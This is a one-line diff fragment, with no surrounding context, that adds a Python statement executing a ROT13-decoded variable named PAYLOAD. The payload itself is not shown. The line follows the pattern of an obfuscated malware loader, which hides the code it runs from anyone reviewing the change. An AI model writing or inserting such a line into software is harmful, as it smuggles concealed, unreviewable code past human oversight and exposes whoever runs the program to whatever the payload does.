@@ -1,0 +1,1 @@
+exec(PAYLOAD.decode('rot_13'))
